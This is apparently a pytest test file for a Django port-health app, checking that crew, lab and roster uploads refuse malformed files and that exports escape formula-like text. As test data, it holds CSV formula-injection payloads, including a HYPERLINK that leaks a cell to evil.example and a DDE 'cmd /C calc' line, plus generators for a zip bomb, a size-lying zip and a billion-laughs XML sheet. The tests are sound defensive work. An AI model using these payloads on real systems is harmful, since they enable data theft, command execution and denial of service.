"""Malformed files on every upload (crew list, lab results, roster), through the API and
the pages: a clear 400 in the spec's shape, limits enforced before anything is parsed,
nothing saved, never a 500 or a long hang. And the exports, which write text that a
spreadsheet would run as a formula as plain text."""

import csv
import io
import os
import struct
import unicodedata
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, timedelta
from functools import cache

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook, load_workbook

from crews.crew_lists import CREW_REQUIRED
from crews.lab_results import LAB_REQUIRED
from crews.models import CrewMember, Person, RosterEntry, ScreeningTest, StaffMember
from crews.stations import ROSTER_COLUMNS, RosterLine, load_roster
from portguard.tabular import read_upload, to_csv, to_xlsx
from tests.helpers import ARRIVAL, client_for, people_of

NOW = ARRIVAL + timedelta(hours=6)
SAMPLED = "12/08/2021 09:30"
NAME = "Nguyễn Văn Hùng"
LAB = "CDC Quảng Ninh"
MB = 1024 * 1024


@pytest.fixture(autouse=True)
def english_and_frozen_clock():
    with translation.override("en"), time_machine.travel(NOW, tick=False):
        yield


@dataclass
class Upload:
    """One upload endpoint: its API and page, the columns it needs with a good row, the
    column where free text goes (a name, or the lab's), and what it has saved."""

    user: object
    url: str
    page: str
    required: tuple[str, ...]
    header: list[str]
    good: list[str]
    text_column: str
    choice_column: str
    saved: Callable[[], int]
    stored_text: Callable[[], list[str]]

    def row(self, **cells: str) -> list[str]:
        return [cells.get(column, value) for column, value in zip(self.header, self.good, strict=True)]

    def post(self, name: str, content: bytes):
        upload = SimpleUploadedFile(name, content)
        return client_for(self.user).post(self.url, {"file": upload}, HTTP_ACCEPT_LANGUAGE="en")


def crew_upload(request) -> Upload:
    call = request.getfixturevalue("make_call")(crew=0)
    return Upload(
        user=request.getfixturevalue("inspector"),
        url=f"/api/v1/port-calls/{call.pk}/crew/",
        page=reverse("port-call-crew-upload", args=[call.pk]),
        required=CREW_REQUIRED,
        header=["full_name", "role", "id_number"],
        good=[NAME, "captain", "022081000123"],
        text_column="full_name",
        choice_column="role",
        saved=lambda: Person.objects.count() + CrewMember.objects.count(),
        stored_text=lambda: list(Person.objects.values_list("full_name", flat=True)),
    )


def lab_upload(request) -> Upload:
    call = request.getfixturevalue("make_call")(crew=1)
    return Upload(
        user=request.getfixturevalue("inspector"),
        url="/api/v1/tests/upload/",
        page=reverse("lab-results"),
        required=LAB_REQUIRED,
        header=["id_number", "kind", "sampled_at", "result", "lab"],
        good=[people_of(call)[0].id_number, "rapid", SAMPLED, "negative", LAB],
        text_column="lab",
        choice_column="result",
        saved=lambda: ScreeningTest.objects.count(),
        stored_text=lambda: list(ScreeningTest.objects.values_list("lab", flat=True)),
    )


def roster_upload(request) -> Upload:
    station = request.getfixturevalue("station")
    return Upload(
        user=request.getfixturevalue("supervisor"),
        url=f"/api/v1/stations/{station.code}/roster/",
        page=reverse("station-roster", args=[station.code]),
        required=ROSTER_COLUMNS,
        header=list(ROSTER_COLUMNS),
        good=["001234567890", NAME, "2021-08-09", "S1"],
        text_column="full_name",
        choice_column="shift",
        saved=lambda: RosterEntry.objects.count() + StaffMember.objects.count(),
        stored_text=lambda: list(Person.objects.values_list("full_name", flat=True)),
    )


@pytest.fixture(params=[crew_upload, lab_upload, roster_upload], ids=["crew list", "lab results", "roster"])
def upload(request, db) -> Upload:
    return request.param(request)


def csv_bytes(*rows: list[str], encoding: str = "utf-8", delimiter: str = ",") -> bytes:
    text = io.StringIO()
    csv.writer(text, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return text.getvalue().encode(encoding)


def xlsx_bytes(*rows: list) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def refused(response, upload: Upload) -> dict:
    """The 400 in the spec's shape, with nothing saved."""
    assert response.status_code == 400, response.content[:300]
    body = response.json()
    assert body["error"] == "invalid_file" and body["message"]
    assert all(set(r) == {"row", "column", "message"} and r["message"] for r in body["rows"])
    assert upload.saved() == 0
    return body


# --- Encodings -----------------------------------------------------------------------


def test_utf8_with_a_byte_order_mark_is_read_with_its_diacritics(upload):
    content = b"\xef\xbb\xbf" + csv_bytes(upload.header, upload.good)  # Excel's “CSV UTF-8”
    assert upload.post("excel.csv", content).status_code == 201
    assert upload.stored_text() == [upload.good[upload.header.index(upload.text_column)]]


def test_excel_unicode_text_in_utf16_with_tabs_is_read_with_its_diacritics(upload):
    content = csv_bytes(upload.header, upload.good, encoding="utf-16", delimiter="\t")
    assert content.startswith(b"\xff\xfe")  # what Excel's “Unicode Text” writes
    response = upload.post("excel.txt", content)
    assert response.status_code == 201, response.json()
    assert upload.stored_text() == [upload.good[upload.header.index(upload.text_column)]]


def test_decomposed_diacritics_are_stored_composed(upload):
    text = upload.good[upload.header.index(upload.text_column)]
    decomposed = unicodedata.normalize("NFD", text)
    assert decomposed != text
    response = upload.post("mac.csv", csv_bytes(upload.header, upload.row(**{upload.text_column: decomposed})))
    assert response.status_code == 201
    assert upload.stored_text() == [text]


def test_lines_ending_in_a_lone_carriage_return_are_read():
    lines = [["id_number", "full_name", "note"], *([f"0220{i:08d}", NAME, ""] for i in range(60))]
    content = csv_bytes(*lines).replace(b"\r\n", b"\r")  # as Excel for old Macs writes it
    rows = read_upload(SimpleUploadedFile("mac.csv", content), ["id_number", "full_name"])
    assert len(rows) == 60 and rows[-1] == (61, {"id_number": "022000000059", "full_name": NAME})


# "Nguyễn Văn Hùng" as Excel on a Vietnamese Windows saves a plain “CSV”: Windows-1258,
# where ễ is ê followed by a combining tilde.
WINDOWS_1258_NAME = b"Nguy\xea\xden V\xe3n H\xf9ng"


def test_windows_1258_csv_is_refused_naming_the_first_row_not_in_utf8(upload):
    assert unicodedata.normalize("NFC", WINDOWS_1258_NAME.decode("cp1258")) == NAME
    ascii_row = upload.row(**{upload.text_column: "Tran Van Nam"})
    placeholder = upload.row(**{upload.text_column: "NAME_IN_1258"})
    content = csv_bytes(upload.header, ascii_row, placeholder).replace(b"NAME_IN_1258", WINDOWS_1258_NAME)
    body = refused(upload.post("ansi.csv", content), upload)
    assert "not in UTF-8" in body["message"] and "CSV UTF-8" in body["message"]
    assert [(r["row"], r["column"]) for r in body["rows"]] == [(3, "")]


@pytest.mark.parametrize(
    ("name", "content"),
    [("bom.csv", b"\xef\xbb\xbf"), ("empty.xlsx", None)],
    ids=["a byte-order mark alone", "a workbook without cells"],
)
def test_a_file_with_nothing_in_it_is_an_empty_file(upload, name, content):
    body = refused(upload.post(name, xlsx_bytes() if content is None else content), upload)
    assert body["message"] == "The file is empty."
    assert [(r["row"], r["column"]) for r in body["rows"]] == [(1, "")]


# --- Columns -------------------------------------------------------------------------


@pytest.mark.parametrize("first_row", ["junk", "data"], ids=["only a junk header", "no header at all"])
def test_a_header_without_the_columns_names_every_required_one_on_row_1(upload, first_row):
    header = ["Ghi chú", "cột 2", "x", "", "#"] if first_row == "junk" else upload.good
    body = refused(upload.post("list.csv", csv_bytes(header, upload.good)), upload)
    assert body["rows"] == [{"row": 1, "column": c, "message": "Missing column."} for c in upload.required]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_more_columns_than_any_template_is_refused(upload, kind):
    if kind == "csv":
        content = csv_bytes([*upload.header, *(f"extra {i}" for i in range(5000))], upload.good)
    else:
        content = xlsx_bytes(upload.header, [*upload.good, *([None] * (100 - len(upload.good))), "column 101"])
    body = refused(upload.post(f"wide.{kind}", content), upload)
    assert body["message"] == "The file has more than 100 columns."


# --- Formulas ------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Bấm vào đây")',
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("column", ["id_number", "text"])
@pytest.mark.parametrize("formula", FORMULAS)
def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_refused_with_its_row(upload, formula, column):
    column = upload.text_column if column == "text" else column
    content = csv_bytes(upload.header, upload.good, upload.row(**{column: formula}))
    body = refused(upload.post("injected.csv", content), upload)
    assert "formula" in body["message"] and "nothing was saved" in body["message"]
    (row,) = body["rows"]
    assert (row["row"], row["column"]) == (3, column)
    assert f"starts with “{formula[0]}”" in row["message"] and formula[:10] in row["message"]


def test_a_leading_minus_outside_names_and_ids_is_left_to_the_columns_own_check(upload):
    content = csv_bytes(upload.header, upload.row(**{upload.choice_column: "-"}))
    body = refused(upload.post("dash.csv", content), upload)
    (row,) = body["rows"]
    assert row["column"] == upload.choice_column and "formula" not in row["message"]


def with_cached_values(content: bytes, value: str) -> bytes:
    """The workbook as Excel saves it: each formula cell also holds the value it last
    computed, here ``value``."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            data = source.read(entry.filename)
            if entry.filename.startswith("xl/worksheets/"):
                data = data.replace(b"<v></v>", f"<v>{value}</v>".encode()).replace(
                    b"<v />", f"<v>{value}</v>".encode()
                )
            target.writestr(entry, data)
    return out.getvalue()


def test_an_xlsx_formula_is_refused_never_read_as_its_computed_value(upload):
    formulas = {"id_number": "=1+1", upload.text_column: '=HYPERLINK("http://evil.example","x")'}
    content = xlsx_bytes(upload.header, upload.good, upload.row(**formulas))
    # The cached value is a good ID number: read with data_only it would pass.
    content = with_cached_values(content, "022081000999")
    assert b"<f>" in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    body = refused(upload.post("formulas.xlsx", content), upload)
    assert {(r["row"], r["column"]) for r in body["rows"]} == {(3, "id_number"), (3, upload.text_column)}
    assert any("=1+1" in r["message"] for r in body["rows"])


# --- Size limits -----------------------------------------------------------------------


def test_a_20_mb_file_is_refused_by_the_size_limit_before_parsing(upload):
    content = csv_bytes(upload.header) + b"\x00\xff" * (10 * MB)  # unreadable, were it read
    body = refused(upload.post("big.csv", content), upload)
    assert body["message"] == "The file is larger than 10 MB."
    assert body["rows"] == [{"row": 1, "column": "", "message": "Split the file into smaller ones."}]


def test_every_upload_follows_the_size_setting(upload, settings):
    settings.PORTGUARD_UPLOAD_MAX_MB = 1
    content = csv_bytes(upload.header, upload.good) + b" " * MB
    assert refused(upload.post("big.csv", content), upload)["message"] == "The file is larger than 1 MB."


def test_a_20_mb_form_field_instead_of_a_file_is_a_json_400_not_a_500(upload):
    response = client_for(upload.user).post(upload.url, {"file": "x" * (20 * MB)}, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 400
    assert response.json() == {
        "error": "request_too_large",
        "message": "The request is too large: send the file as a file upload, at most 10 MB.",
    }
    assert upload.saved() == 0


# --- XLSX that is not what it says ---------------------------------------------------


def entries_of(content: bytes) -> dict[str, bytes | int]:
    archive = zipfile.ZipFile(io.BytesIO(content))
    return {name: archive.read(name) for name in archive.namelist()}


def deflated_zip(entries: dict[str, bytes | int]) -> bytes:
    """A zip of ``entries``; an int is that many spaces, written in chunks so that
    building a bomb needs little memory."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            if isinstance(data, bytes):
                archive.writestr(name, data)
                continue
            with archive.open(name, "w", force_zip64=True) as member:
                chunk = b" " * MB
                for _ in range(data // MB):
                    member.write(chunk)
    return out.getvalue()


@cache
def zip_bomb() -> bytes:
    """A real workbook with a second sheet of 200 MB of spaces."""
    entries = entries_of(xlsx_bytes(["id_number"]))
    entries["xl/worksheets/sheet2.xml"] = 200 * MB
    return deflated_zip(entries)


def test_a_zip_bomb_is_refused_from_its_declared_sizes_before_the_workbook_is_opened(upload, monkeypatch):
    bomb = zip_bomb()
    assert len(bomb) < 1 * MB
    assert sum(e.file_size for e in zipfile.ZipFile(io.BytesIO(bomb)).infolist()) > 200 * MB

    def never(*args, **kwargs):
        raise AssertionError("the workbook was opened")

    monkeypatch.setattr("portguard.tabular.load_workbook", never)
    body = refused(upload.post("bomb.xlsx", bomb), upload)
    assert body["message"] == "This XLSX file unpacks to more than 20 MB: it is not an ordinary spreadsheet."


def lying_about_its_size(content: bytes, name: str, declared: int) -> bytes:
    """``content`` with the entry ``name`` declaring ``declared`` bytes unpacked, in its
    local header and in the central directory."""
    data = bytearray(content)
    entry = zipfile.ZipFile(io.BytesIO(content)).getinfo(name)
    data[entry.header_offset + 22 : entry.header_offset + 26] = struct.pack("<I", declared)
    start = data.find(b"PK\x01\x02")
    while start != -1:
        length = struct.unpack("<H", data[start + 28 : start + 30])[0]
        if data[start + 46 : start + 46 + length] == name.encode():
            data[start + 24 : start + 28] = struct.pack("<I", declared)
        start = data.find(b"PK\x01\x02", start + 4)
    return bytes(data)


def test_a_zip_that_lies_about_its_sizes_is_read_no_further_than_it_declares(upload):
    book = xlsx_bytes(upload.header, upload.good)
    entries = entries_of(book)
    sheet = entries["xl/worksheets/sheet1.xml"]
    entries["xl/worksheets/sheet1.xml"] = sheet.replace(b"</worksheet>", b" " * (20 * MB) + b"</worksheet>")
    liar = lying_about_its_size(deflated_zip(entries), "xl/worksheets/sheet1.xml", len(sheet))
    assert sum(e.file_size for e in zipfile.ZipFile(io.BytesIO(liar)).infolist()) < MB  # passes the size check
    body = refused(upload.post("liar.xlsx", liar), upload)
    assert body["message"] == "This is not a readable XLSX file."


def test_a_zip_of_thousands_of_entries_is_refused(upload):
    crowded = deflated_zip({f"xl/media/{i}.bin": b"" for i in range(1001)} | {"[Content_Types].xml": b""})
    body = refused(upload.post("crowded.xlsx", crowded), upload)
    assert body["message"] == "This XLSX file holds more than 1000 parts: it is not an ordinary spreadsheet."


def billion_laughs() -> bytes:
    """A workbook whose sheet defines an entity that expands to gigabytes."""
    book = xlsx_bytes(["id_number"], ["x"])
    entries = entries_of(book)
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    doctype = f'<!DOCTYPE worksheet [<!ENTITY l0 "ha">{laughs}]>'.encode()
    sheet = entries["xl/worksheets/sheet1.xml"].replace(b"<t>x</t>", b"<t>&l9;</t>")
    assert b"&l9;" in sheet
    entries["xl/worksheets/sheet1.xml"] = doctype + sheet
    return deflated_zip(entries)


def truncated_workbook() -> bytes:
    book = xlsx_bytes(["id_number"], ["022081000123"])
    return book[: len(book) // 2]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (os.urandom(4096), "This is not a readable XLSX file."),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", "This is not a readable XLSX file."),
        (
            deflated_zip({"photo.jpg": os.urandom(1000), "notes.txt": b"hello"}),
            "This zip file is not an XLSX workbook.",
        ),
        (b"id_number,full_name\n022081000123,Nguyen Van Hung\n", "This is not a readable XLSX file."),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(4096), "password-protected or in the old Excel format"),
        (truncated_workbook(), "This is not a readable XLSX file."),
        (billion_laughs(), "This is not a readable XLSX file."),
    ],
    ids=["random bytes", "a pdf", "a plain zip", "a csv renamed", "encrypted", "truncated", "entity expansion"],
)
def test_a_file_named_xlsx_that_is_not_a_readable_workbook_is_refused(upload, content, message):
    body = refused(upload.post("list.xlsx", content), upload)
    assert message in body["message"]


# --- Ten thousand rows, one bad ------------------------------------------------------


def test_one_bad_result_in_ten_thousand_is_named_and_nothing_is_recorded(make_call, inspector):
    call = make_call(crew=100)
    header = ["id_number", "kind", "sampled_at", "result", "lab"]
    times = [(ARRIVAL + timedelta(minutes=m)).strftime("%d/%m/%Y %H:%M") for m in range(1, 101)]
    lines = [[p.id_number, "rapid", t, "negative", LAB] for t in times for p in people_of(call)]
    lines[6787][3] = "maybe"  # row 6,789: the header is row 1
    upload = SimpleUploadedFile("lab.csv", csv_bytes(header, *lines))
    response = client_for(inspector).post("/api/v1/tests/upload/", {"file": upload}, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 400
    assert response.json()["rows"] == [
        {
            "row": 6789,
            "column": "result",
            "message": "maybe is not a result: write negative, positive, pending or invalid.",
        }
    ]
    assert not ScreeningTest.objects.exists()


def test_one_bad_roster_row_in_ten_thousand_is_named_and_nothing_is_saved(station, supervisor):
    days = [(date(2021, 8, 9) + timedelta(days=d)).isoformat() for d in range(10)]
    lines = [[f"0220{i:08d}", f"Nhân viên {i}", day, "S1"] for i in range(1000) for day in days]
    lines[7775][3] = "S9"  # row 7,777
    book = xlsx_bytes(list(ROSTER_COLUMNS), *lines)
    upload = SimpleUploadedFile("roster.xlsx", book)
    api = client_for(supervisor)
    response = api.post(f"/api/v1/stations/{station.code}/roster/", {"file": upload}, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 400
    assert [(r["row"], r["column"]) for r in response.json()["rows"]] == [(7777, "shift")]
    assert not RosterEntry.objects.exists() and not Person.objects.exists()


# --- Pages ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("bomb.xlsx", None, "This XLSX file unpacks to more than 20 MB"),
        ("big.csv", b"x" * (20 * MB), "The file is larger than 10 MB."),
        ("ansi.csv", b"full_name\n" + WINDOWS_1258_NAME, "The CSV file is not in UTF-8"),
    ],
    ids=["zip bomb", "20 MB", "windows-1258"],
)
def test_the_upload_pages_show_the_same_refusal(client, upload, name, content, message):
    client.force_login(upload.user)
    upload_file = SimpleUploadedFile(name, zip_bomb() if content is None else content)
    response = client.post(upload.page, {"file": upload_file}, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 400
    assert message in response.content.decode()
    assert upload.saved() == 0


def test_a_20_mb_form_field_on_a_page_is_a_400_not_a_500(client, upload):
    client.force_login(upload.user)
    response = client.post(upload.page, {"file": "x" * (20 * MB)})
    assert response.status_code == 400
    assert upload.saved() == 0


def test_refusals_are_in_vietnamese_by_default(client, upload):
    client.force_login(upload.user)
    content = csv_bytes(upload.header, upload.row(id_number="=1+1"))
    api = client_for(upload.user).post(upload.url, {"file": SimpleUploadedFile("f.csv", content)})
    assert api.json()["rows"][0]["message"] == (
        "“=1+1” bắt đầu bằng “=” nên bảng tính sẽ chạy nó như một công thức: hãy ghi chính giá trị đó."
    )
    page = client.post(upload.page, {"file": SimpleUploadedFile("bomb.xlsx", zip_bomb())})
    assert "Tệp XLSX này giải nén ra hơn 20 MB" in page.content.decode()


# --- Exports -------------------------------------------------------------------------

INJECTED = ["=1+1", '=HYPERLINK("http://evil.example","x")', "+84912345678", "-1+1", "@SUM(A1)", "\t=1"]


@pytest.mark.parametrize("value", INJECTED)
def test_csv_export_writes_text_that_would_be_a_formula_behind_an_apostrophe(value):
    body = to_csv([{"full_name": value, "count": -3}], ["full_name", "count"]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(body)))[1] == ["'" + value, "-3"]


@pytest.mark.parametrize("value", INJECTED)
def test_xlsx_export_writes_text_that_would_be_a_formula_as_a_text_cell(value):
    body = to_xlsx([{"full_name": value, "count": -3}], ["full_name", "count"], sheet="s")
    name, count = load_workbook(io.BytesIO(body)).active[2]
    assert (name.value, name.data_type) == (value, "s")
    assert (count.value, count.data_type) == (-3, "n")


def test_the_schedule_files_keep_a_formula_like_name_as_text(station, supervisor):
    name = '=HYPERLINK("http://evil.example","Hằng")'
    load_roster(supervisor, station, [RosterLine(2, "001234567890", name, "2021-08-09", "S1")])
    api = client_for(supervisor)
    query = "?start=2021-08-09&days=1"
    csv_body = api.get(f"/api/v1/stations/{station.code}/schedule.csv{query}").content.decode("utf-8-sig")
    assert {row[1] for row in list(csv.reader(io.StringIO(csv_body)))[1:]} == {"'" + name}
    xlsx_body = api.get(f"/api/v1/stations/{station.code}/schedule.xlsx{query}").content
    cells = [row[1] for row in load_workbook(io.BytesIO(xlsx_body)).active.iter_rows(min_row=2)]
    assert {(c.value, c.data_type) for c in cells} == {(name, "s")}
